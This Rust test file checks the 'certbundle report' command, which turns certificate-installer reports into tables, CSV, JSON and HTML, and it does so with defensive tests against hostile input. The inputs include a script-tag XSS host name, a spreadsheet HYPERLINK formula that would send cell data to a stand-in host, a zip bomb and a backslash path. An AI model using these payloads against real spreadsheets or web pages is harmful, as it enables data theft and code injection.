//! `certbundle report`: the fixture fleet in tests/fixtures/reports (every verdict, Windows
//! encodings, a truncated and a foreign file) as a table, CSV, JSON and HTML; exit codes; bundle
//! comparison; folders, bundle folders and zips as input.

use std::io::Write as _;
use std::path::{Path, PathBuf};

use crate::common;
use crate::common::*;
use predicates::prelude::*;

const FIXTURES: &str = "tests/fixtures/reports";

/// `unreachable` reports and `--expect` (tests/fixtures/deploy), in a file of its own so each
/// stays under 800 lines; `cargo test --test it cli_report::` runs both.
#[path = "cli_report_expect.rs"]
mod expect;

/// `certbundle report` run from the crate root (so paths in the output are stable).
fn report() -> assert_cmd::Command {
    let mut cmd = certbundle();
    cmd.current_dir(env!("CARGO_MANIFEST_DIR")).arg("report");
    cmd
}

fn stdout(assert: &assert_cmd::assert::Assert) -> String {
    String::from_utf8(assert.get_output().stdout.clone()).unwrap()
}

fn fixture_text(name: &str) -> String {
    std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join(FIXTURES)
            .join(name),
    )
    .unwrap()
}

#[test]
fn the_fixture_fleet_as_a_table() {
    let assert = report().arg(FIXTURES).assert().code(1);
    insta::assert_snapshot!("fleet_table", stdout(&assert));
}

#[test]
fn the_fixture_fleet_as_csv() {
    let assert = report().args([FIXTURES, "--csv"]).assert().code(1);
    let text = stdout(&assert);
    // One row per host (12) after the header, RFC 4180 line ends.
    assert_eq!(text.matches("\r\n").count(), 13, "{text}");
    assert!(!text.replace("\r\n", "").contains('\n'));
    insta::assert_snapshot!("fleet_csv", text);
}

#[test]
fn the_fixture_fleet_as_json() {
    let assert = report().args([FIXTURES, "--json"]).assert().code(1);
    let json: serde_json::Value = strict_json(stdout(&assert));
    assert_eq!(json["schema"], "certbundle-fleet/1");
    let statuses: Vec<&str> = json["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["status"].as_str().unwrap())
        .collect();
    // Every verdict of the installer is represented, worst first.
    assert_eq!(
        statuses,
        [
            "integrity-failure",
            "error",
            "not-elevated",
            "unsupported-host",
            "still-missing",
            "chain-fails",
            "uninstalled",
            "fixed",
            "compliant",
            "compliant",
            "compliant",
            "compliant"
        ]
    );
    insta::assert_json_snapshot!("fleet_json", json);
}

#[test]
fn windows_encodings_and_names_are_read() {
    let assert = report().args([FIXTURES, "--json"]).assert().code(1);
    let json: serde_json::Value = strict_json(stdout(&assert));
    let host = |name: &str| {
        json["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["host"] == name)
            .unwrap_or_else(|| panic!("{name} not read"))
            .clone()
    };
    // \u00dc escaped by the installer; raw UTF-8 in a UTF-16 LE file with a BOM.
    assert_eq!(host("M\u{dc}NCHEN-PC01")["status"], "compliant");
    assert_eq!(host("\u{c5}LESUND-01")["status"], "compliant");
    // UTF-8 BOM and CRLF (re-saved in Notepad).
    assert_eq!(host("WS-0120")["label"], "chain fails 1");
    // The older -WhatIf run of WS-0102 is history; the install after it counts.
    assert_eq!(host("WS-0102")["runs"], 2);
    assert_eq!(host("WS-0102")["mode"], "install");
    let skipped: Vec<(String, String)> = json["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| {
            (
                s["file"].as_str().unwrap().to_string(),
                s["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(skipped.len(), 2, "{skipped:?}");
    assert!(skipped[0].0.ends_with("WS-0199_20261126T130000Z.json"));
    assert!(skipped[0].1.contains("truncated"));
    assert!(skipped[1].0.ends_with("package.json"));
    assert!(skipped[1].1.contains("not a certbundle report"));
    assert_eq!(json["summary"]["history"], 1);
    assert_eq!(json["summary"]["reports"], 13);
}

/// A message with an unpaired UTF-16 surrogate (a file name NTFS allowed) is read as U+FFFD and
/// the host gets a note in every format; an escaped backslash before `ud800` is only text.
#[test]
fn an_unpaired_surrogate_in_a_report_is_read_with_a_note() {
    let tmp = tempfile::tempdir().unwrap();
    let fixture = fixture_text("SRV-APEX01_20261126T080004Z.json");
    let lone = fixture.replace(
        "\"messages\": []",
        "\"messages\": [\"Could not read D:\\\\x\\ud800.cer\"]",
    );
    let escaped = fixture
        .replace("SRV-APEX01", "SRV-APEX02")
        .replace("\"messages\": []", "\"messages\": [\"a \\\\ud800 b\"]");
    assert_ne!(lone, fixture);
    write(tmp.path(), "SRV-APEX01_20261126T080004Z.json", lone);
    write(tmp.path(), "SRV-APEX02_20261126T080004Z.json", escaped);
    let note = "the report holds 1 unpaired UTF-16 surrogate(s)";

    let assert = report().arg(tmp.path()).arg("--json").assert().code(0);
    let json: serde_json::Value = strict_json(stdout(&assert));
    assert_eq!(json["summary"]["skipped"], 0, "{json}");
    let hosts = json["hosts"].as_array().unwrap();
    let notes = |name: &str| {
        hosts.iter().find(|h| h["host"] == name).unwrap()["notes"]
            .as_array()
            .unwrap()
            .clone()
    };
    assert_eq!(notes("SRV-APEX01").len(), 1);
    assert!(notes("SRV-APEX01")[0].as_str().unwrap().starts_with(note));
    assert!(notes("SRV-APEX02").is_empty());

    let table = stdout(&report().arg(tmp.path()).assert().code(0));
    assert!(
        table.contains(&format!("Notes\n  SRV-APEX01: {note}")),
        "{table}"
    );
    let csv = stdout(&report().arg(tmp.path()).arg("--csv").assert().code(0));
    assert!(csv.contains(note), "{csv}");
}

/// A folder holding copies of the named fixtures.
fn fleet_of(dir: &Path, names: &[&str]) -> PathBuf {
    let folder = dir.join("reports");
    for name in names {
        write(&folder, name, fixture_text(name));
    }
    folder
}

#[test]
fn exit_codes_say_whether_the_fleet_is_compliant() {
    let tmp = tempfile::tempdir().unwrap();
    let good = fleet_of(
        &tmp.path().join("good"),
        &[
            "SRV-APEX01_20261126T080004Z.json",
            "WS-0102_20261126T081002Z.json",
            "WS-0102_20261126T081241Z.json",
        ],
    );
    report()
        .arg(&good)
        .assert()
        .success()
        .stdout(predicate::str::contains(
            "2 host(s): 2 compliant (1 fixed now), 0 not compliant.",
        ));
    let mixed = fleet_of(
        &tmp.path().join("mixed"),
        &[
            "SRV-APEX01_20261126T080004Z.json",
            "WS-0140_20261126T100500Z.json",
        ],
    );
    report()
        .arg(&mixed)
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "2 host(s): 1 compliant (0 fixed now), 1 not compliant (1 not elevated).",
        ));
    // Nothing readable: exit 2, and the error lists what was skipped and why.
    let junk = tmp.path().join("junk");
    write(&junk, "package.json", fixture_text("package.json"));
    write(
        &junk,
        "half.json",
        "{\"schema\": \"certbundle-report/1\", \"host\": {",
    );
    write(&junk, "notes.txt", "not a report");
    report()
        .arg(&junk)
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains(
            "no certbundle report could be read from",
        ))
        .stderr(predicate::str::contains("half.json: the JSON ends early"))
        .stderr(predicate::str::contains(
            "package.json: not a certbundle report",
        ))
        .stderr(predicate::str::contains("hint:"));
    // An empty folder too; a path that does not exist is named.
    let empty = tmp.path().join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    report().arg(&empty).assert().code(2);
    report()
        .arg(tmp.path().join("nowhere"))
        .assert()
        .code(2)
        .stderr(predicate::str::contains("nowhere: cannot read"));
}

/// Builds a bundle from one generated root; returns its folder, zip and digest.
fn build_bundle(dir: &Path) -> (PathBuf, PathBuf, String) {
    let input = write(dir, "in/root.pem", root("Report Root").pem());
    common::build_bundle(dir, &input, "site-certs")
}

/// A compliant report of `host` for the bundle with `digest` (none: run without SHA256SUMS).
fn report_for(host: &str, digest: Option<&str>) -> String {
    let text = fixture_text("SRV-APEX01_20261126T080004Z.json")
        .replace("\"SRV-APEX01\"", &format!("\"{host}\""))
        .replace("apex-one-certs-20261125", "site-certs");
    let old = "\"5f2b1a0c9e8d7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f21\"";
    match digest {
        Some(d) => text.replace(old, &format!("\"{d}\"")),
        None => text.replace(old, "null"),
    }
}

#[test]
fn reports_of_another_bundle_are_flagged() {
    let tmp = tempfile::tempdir().unwrap();
    let (folder, zip, digest) = build_bundle(tmp.path());
    let reports = tmp.path().join("stick");
    write(
        &reports,
        "WS-SAME_20261126T080004Z.json",
        report_for("WS-SAME", Some(&digest)),
    );
    write(
        &reports,
        "WS-NOSUMS_20261126T080004Z.json",
        report_for("WS-NOSUMS", None),
    );
    write(
        &reports,
        "WS-OLD_20261126T080004Z.json",
        report_for("WS-OLD", Some(&"a".repeat(64))),
    );
    for reference in [&folder, &zip] {
        let assert = report()
            .arg(&reports)
            .arg("--bundle")
            .arg(reference)
            .arg("--json")
            .assert()
            .code(1);
        let json: serde_json::Value = strict_json(stdout(&assert));
        assert_eq!(json["reference"]["digest"], digest.as_str());
        assert_eq!(json["reference"]["name"], "site-certs");
        let rows: Vec<(&str, &str, bool)> = json["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| {
                (
                    h["host"].as_str().unwrap(),
                    h["bundle_match"].as_str().unwrap(),
                    h["compliant"].as_bool().unwrap(),
                )
            })
            .collect();
        assert_eq!(
            rows,
            [
                ("WS-OLD", "other", false),
                ("WS-NOSUMS", "no-digest", true),
                ("WS-SAME", "same", true)
            ]
        );
        assert_eq!(json["summary"]["other_bundle"], 1);
    }
    report()
        .arg(&reports)
        .arg("--bundle")
        .arg(&folder)
        .assert()
        .code(1)
        .stdout(predicate::str::contains("compliant [other bundle]"))
        .stdout(predicate::str::contains(
            "ran another bundle: site-certs (digest aaaaaaaa)",
        ))
        .stdout(predicate::str::contains("(1 ran another bundle)"));
    // Not a bundle: exit 2 naming it.
    report()
        .arg(&reports)
        .arg("--bundle")
        .arg(&reports)
        .assert()
        .code(2)
        .stderr(predicate::str::contains(
            "not a certbundle bundle (no SHA256SUMS)",
        ));
}

#[test]
fn a_bundle_folder_or_zip_is_read_for_its_reports_and_compared_with_itself() {
    let tmp = tempfile::tempdir().unwrap();
    let (folder, _, digest) = build_bundle(tmp.path());
    write(
        &folder.join("reports"),
        "WS-1_20261126T080004Z.json",
        report_for("WS-1", Some(&digest)),
    );
    write(
        &folder.join("reports"),
        "WS-2_20261126T080004Z.json",
        report_for("WS-2", Some(&"b".repeat(64))),
    );
    let json_of = |path: &Path| -> serde_json::Value {
        let assert = report().arg(path).arg("--json").assert().code(1);
        strict_json(stdout(&assert))
    };
    let json = json_of(&folder);
    // Only reports/ is read (manifest.json is not a skipped file), and the bundle is the reference.
    assert_eq!(json["summary"]["hosts"], 2);
    assert_eq!(json["summary"]["skipped"], 0);
    assert_eq!(json["reference"]["digest"], digest.as_str());
    assert_eq!(json["hosts"][0]["host"], "WS-2");
    assert_eq!(json["hosts"][0]["bundle_match"], "other");
    // The same bundle zipped back up with its reports, as an administrator might send it.
    let zipped = tmp.path().join("returned.zip");
    let mut z = zip::ZipWriter::new(std::fs::File::create(&zipped).unwrap());
    for entry in walkdir::WalkDir::new(&folder).sort_by_file_name() {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let rel = entry.path().strip_prefix(folder.parent().unwrap()).unwrap();
            z.start_file(
                rel.to_string_lossy().replace('\\', "/"),
                zip::write::SimpleFileOptions::default(),
            )
            .unwrap();
            z.write_all(&std::fs::read(entry.path()).unwrap()).unwrap();
        }
    }
    z.finish().unwrap();
    let json = json_of(&zipped);
    assert_eq!(json["summary"]["hosts"], 2);
    assert_eq!(json["summary"]["skipped"], 0);
    assert_eq!(json["reference"]["digest"], digest.as_str());
    assert!(
        json["hosts"][0]["file"]
            .as_str()
            .unwrap()
            .ends_with("returned.zip!/site-certs/reports/WS-2_20261126T080004Z.json")
    );
}

#[test]
fn the_html_page_is_well_formed_self_contained_and_counts_right() {
    let tmp = tempfile::tempdir().unwrap();
    let page = tmp.path().join("fleet.html");
    // A hostile computer name must stay text.
    let folder = fleet_of(tmp.path(), &["SRV-APEX01_20261126T080004Z.json"]);
    write(
        &folder,
        "EVIL_20261126T080004Z.json",
        report_for("<script>alert(1)</script>&amp;", None).replace("\"compliant\"", "\"error\""),
    );
    for name in [
        "WS-0117_20261126T090109Z.json",
        "WS-0133_20261126T100001Z.json",
        "WS-0102_20261126T081241Z.json",
        "package.json",
    ] {
        write(&folder, name, fixture_text(name));
    }
    report()
        .arg(&folder)
        .arg("--html")
        .arg(&page)
        .assert()
        .code(1)
        .stdout(predicate::str::contains(format!(
            "HTML page: {}",
            page.display()
        )));
    let html = std::fs::read_to_string(&page).unwrap();
    let doc = roxmltree::Document::parse_with_options(
        &html,
        roxmltree::ParsingOptions {
            allow_dtd: true,
            ..Default::default()
        },
    )
    .unwrap_or_else(|e| panic!("not well-formed: {e}\n{html}"));
    let rows: Vec<roxmltree::Node> = doc
        .descendants()
        .filter(|n| {
            n.has_tag_name("tr") && n.attribute("class").is_some_and(|c| c.starts_with("host "))
        })
        .collect();
    assert_eq!(rows.len(), 5, "one row per host");
    let text_of = |id: &str| {
        doc.descendants()
            .find(|n| n.attribute("id") == Some(id))
            .unwrap_or_else(|| panic!("no #{id}"))
            .text()
            .unwrap()
            .to_string()
    };
    assert_eq!(text_of("count-hosts"), "5");
    assert_eq!(text_of("count-compliant"), "2");
    assert_eq!(text_of("count-fixed"), "1");
    assert_eq!(text_of("count-not-compliant"), "3");
    // Worst first, colour-coded by class.
    let first = rows[0].attribute("class").unwrap();
    assert_eq!(first, "host s-bad");
    assert_eq!(rows[4].attribute("class").unwrap(), "host s-ok");
    // The hostile name is a text node, not markup.
    assert!(
        doc.descendants()
            .any(|n| n.text() == Some("<script>alert(1)</script>&amp;"))
    );
    // Self-contained: no scripts, no external resources.
    assert!(!doc.descendants().any(|n| n.has_tag_name("script")));
    assert!(
        !doc.descendants()
            .any(|n| n.has_tag_name("link") || n.has_tag_name("img"))
    );
    assert!(!html.contains("http://") && !html.contains("https://") && !html.contains("url("));
    assert!(html.contains("print-color-adjust: exact"));
    // The skipped file is listed.
    assert!(html.contains("package.json"));
    // Same input, same page.
    let again = tmp.path().join("again.html");
    report()
        .arg(&folder)
        .arg("--html")
        .arg(&again)
        .assert()
        .code(1);
    assert_eq!(std::fs::read(&again).unwrap(), html.as_bytes());
}

/// Headless Chromium, when this machine has it: the page renders to a PNG.
#[test]
#[cfg_attr(
    not(has_chromium),
    ignore = "needs chromium on PATH (chromium, chromium-browser or google-chrome)"
)]
fn the_html_page_renders_in_chromium() {
    let Some(chromium) = [
        "chromium",
        "chromium-browser",
        "google-chrome",
        "google-chrome-stable",
    ]
    .iter()
    .find_map(|name| {
        std::env::var_os("PATH").and_then(|paths| {
            std::env::split_paths(&paths)
                .map(|dir| dir.join(name))
                .find(|p| p.is_file())
        })
    }) else {
        tool_missing(
            "chromium",
            "no Chromium found on PATH (chromium, chromium-browser, google-chrome); .ci/run installs Debian's chromium",
        );
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let page = tmp.path().join("fleet.html");
    report()
        .arg(FIXTURES)
        .arg("--html")
        .arg(&page)
        .assert()
        .code(1);
    let png = tmp.path().join("fleet.png");
    let status = std::process::Command::new(&chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--hide-scrollbars",
            "--window-size=1400,1000",
        ])
        .arg(format!(
            "--user-data-dir={}",
            tmp.path().join("profile").display()
        ))
        .arg(format!("--screenshot={}", png.display()))
        .arg(format!("file://{}", page.display()))
        .output()
        .unwrap();
    assert!(
        png.is_file(),
        "no screenshot: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let bytes = std::fs::read(&png).unwrap();
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n");
    let width = u32::from_be_bytes(bytes[16..20].try_into().unwrap());
    let height = u32::from_be_bytes(bytes[20..24].try_into().unwrap());
    assert_eq!((width, height), (1400, 1000));
    // Something was drawn: a blank page compresses to almost nothing.
    assert!(bytes.len() > 20_000, "{} bytes", bytes.len());
    if let Ok(dir) = std::env::var("CERTBUNDLE_KEEP_SCREENSHOT") {
        std::fs::copy(&png, Path::new(&dir).join("fleet.png")).unwrap();
    }
}

/// Writes a zip of `(name, bytes)` entries (deflated).
fn zip_of(path: &Path, entries: &[(String, Vec<u8>)]) {
    let mut z = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
    for (name, bytes) in entries {
        z.start_file(
            name.as_str(),
            zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated),
        )
        .unwrap();
        z.write_all(bytes).unwrap();
    }
    z.finish().unwrap();
}

#[test]
fn a_zip_of_a_whole_stick_is_read_entirely() {
    let tmp = tempfile::tempdir().unwrap();
    let compliant = fixture_text("SRV-APEX01_20261126T080004Z.json").into_bytes();
    let not_elevated = fixture_text("WS-0140_20261126T100500Z.json").into_bytes();
    let chain = fixture_text("WS-0120_20261126T092005Z.json").into_bytes();
    let stick = tmp.path().join("stick.zip");
    zip_of(
        &stick,
        &[
            (
                "bundleA/manifest.json".into(),
                b"{\"bundle\": \"a\"}".to_vec(),
            ),
            ("bundleA/SHA256SUMS".into(), b"".to_vec()),
            (
                "bundleA/reports/SRV-APEX01_20261126T080004Z.json".into(),
                compliant,
            ),
            (
                "bundleB/manifest.json".into(),
                b"{\"bundle\": \"b\"}".to_vec(),
            ),
            ("bundleB/SHA256SUMS".into(), b"".to_vec()),
            (
                "bundleB/reports/WS-0140_20261126T100500Z.json".into(),
                not_elevated,
            ),
            (
                "ProgramData-copy/WS-0120_20261126T092005Z.json".into(),
                chain,
            ),
            (
                "__MACOSX/bundleA/reports/._SRV-APEX01_20261126T080004Z.json".into(),
                b"\x00\x05".to_vec(),
            ),
        ],
    );
    let assert = report().arg(&stick).arg("--json").assert().code(1);
    let json: serde_json::Value = strict_json(stdout(&assert));
    let hosts: Vec<&str> = json["hosts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["host"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, ["WS-0140", "WS-0120", "SRV-APEX01"]);
    // Two bundles: neither is taken as the reference; manifests are not reports.
    assert!(json["reference"].is_null());
    assert_eq!(json["summary"]["skipped"], 0, "{}", json["skipped"]);
}

#[test]
fn a_big_bundle_zip_is_still_a_reference() {
    let tmp = tempfile::tempdir().unwrap();
    let (folder, _, digest) = build_bundle(tmp.path());
    // The bundle zipped back with more files than `verify` would ever read.
    let mut entries: Vec<(String, Vec<u8>)> = walkdir::WalkDir::new(&folder)
        .sort_by_file_name()
        .into_iter()
        .map(Result::unwrap)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            let rel = e.path().strip_prefix(folder.parent().unwrap()).unwrap();
            (
                rel.to_string_lossy().replace('\\', "/"),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect();
    for i in 0..10_050 {
        entries.push((
            format!("site-certs/reports/WS-{i:05}_20261126T080004Z.txt"),
            b"text".to_vec(),
        ));
    }
    entries.push((
        "site-certs/reports/WS-1_20261126T080004Z.json".into(),
        report_for("WS-1", Some(&digest)).into_bytes(),
    ));
    let zipped = tmp.path().join("returned.zip");
    zip_of(&zipped, &entries);
    for extra in [
        &[][..],
        &["--bundle".to_string(), zipped.display().to_string()][..],
    ] {
        let assert = report()
            .arg(&zipped)
            .args(extra)
            .arg("--json")
            .assert()
            .success();
        let json: serde_json::Value = strict_json(stdout(&assert));
        assert_eq!(json["reference"]["digest"], digest.as_str());
        assert_eq!(json["hosts"][0]["bundle_match"], "same");
    }
}

#[test]
fn the_same_report_reached_twice_counts_once_and_oversized_entries_are_skipped() {
    let tmp = tempfile::tempdir().unwrap();
    let folder = fleet_of(tmp.path(), &["SRV-APEX01_20261126T080004Z.json"]);
    let assert = report()
        .arg(&folder)
        .arg(folder.join("SRV-APEX01_20261126T080004Z.json"))
        .arg("--json")
        .assert()
        .success();
    let json: serde_json::Value = strict_json(stdout(&assert));
    assert_eq!(json["summary"]["reports"], 1);
    assert_eq!(json["hosts"][0]["runs"], 1);
    // A copy under another name is the same run, not history.
    write(
        &folder,
        "copy/SRV-APEX01_20261126T080004Z.json",
        fixture_text("SRV-APEX01_20261126T080004Z.json"),
    );
    let assert = report().arg(&folder).arg("--json").assert().success();
    let json: serde_json::Value = strict_json(stdout(&assert));
    assert_eq!(json["hosts"][0]["runs"], 1);
    assert!(
        json["skipped"][0]["reason"]
            .as_str()
            .unwrap()
            .starts_with("the same run as ")
    );
    // A zip entry that inflates past 8 MiB is skipped without being held in memory; being named
    // like a report, it keeps the fleet from passing.
    let bomb = tmp.path().join("bomb.zip");
    zip_of(
        &bomb,
        &[
            (
                "r/SRV-APEX01_20261126T080004Z.json".into(),
                fixture_text("SRV-APEX01_20261126T080004Z.json").into_bytes(),
            ),
            (
                "r/WS-BIG_20261126T080004Z.json".into(),
                vec![b' '; 9 * 1024 * 1024],
            ),
        ],
    );
    assert!(std::fs::metadata(&bomb).unwrap().len() < 100_000);
    report()
        .arg(&bomb)
        .assert()
        .code(1)
        .stdout(predicate::str::contains(
            "WS-BIG_20261126T080004Z.json: over the 8 MiB a report can be",
        ))
        .stdout(predicate::str::contains(
            "1 report file(s) could not be read, so some hosts may be missing",
        ));
}

#[cfg(unix)]
#[test]
fn links_in_walked_folders_are_listed_not_followed() {
    let tmp = tempfile::tempdir().unwrap();
    let folder = fleet_of(tmp.path(), &["SRV-APEX01_20261126T080004Z.json"]);
    let outside = write(tmp.path(), "outside/secret.json", "{}");
    std::os::unix::fs::symlink(&outside, folder.join("link.json")).unwrap();
    report()
        .arg(&folder)
        .assert()
        .success()
        .stdout(predicate::str::contains("link.json: a link: not followed"));
}

#[test]
fn a_reference_zip_gets_the_checks_verify_makes() {
    let tmp = tempfile::tempdir().unwrap();
    let (folder, _, _) = build_bundle(tmp.path());
    let mut entries: Vec<(String, Vec<u8>)> = ["SHA256SUMS", "manifest.json"]
        .iter()
        .map(|f| {
            (
                format!("site-certs/{f}"),
                std::fs::read(folder.join(f)).unwrap(),
            )
        })
        .collect();
    entries.push(("site-certs\\evil.txt".into(), b"x".to_vec()));
    let zipped = tmp.path().join("hostile.zip");
    zip_of(&zipped, &entries);
    let reports = fleet_of(tmp.path(), &["SRV-APEX01_20261126T080004Z.json"]);
    report()
        .arg(&reports)
        .arg("--bundle")
        .arg(&zipped)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("not a certbundle bundle"))
        .stderr(predicate::str::contains("backslash"));
}

/// Text from a report that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`) reaches a
/// CSV cell behind a `'`, and no cell starts with a formula character; `--json` keeps the text
/// as the report has it.
#[test]
fn formula_text_in_a_report_never_starts_a_csv_cell() {
    let tmp = tempfile::tempdir().unwrap();
    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"open")"#;
    let hostile = fixture_text("SRV-APEX01_20261126T080004Z.json")
        .replace(
            "\"name\": \"apex-one-certs-20261125\"",
            &format!("\"name\": {}", serde_json::to_string(formula).unwrap()),
        )
        .replace("\"domain\": \"CORP\"", "\"domain\": \"+CORP\"");
    assert!(hostile.contains("HYPERLINK") && hostile.contains("+CORP"));
    write(tmp.path(), "SRV-APEX01_20261126T080004Z.json", hostile);

    let csv = stdout(&report().arg(tmp.path()).arg("--csv").assert().code(0));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 1, "{csv}");
    let cells: Vec<&str> = rows[0].iter().collect();
    assert!(cells.contains(&format!("'{formula}").as_str()), "{cells:?}");
    assert!(cells.contains(&"'+CORP"), "{cells:?}");
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    let json: serde_json::Value = strict_json(stdout(
        &report().arg(tmp.path()).arg("--json").assert().code(0),
    ));
    assert_eq!(json["hosts"][0]["domain"], "+CORP", "{json}");
}
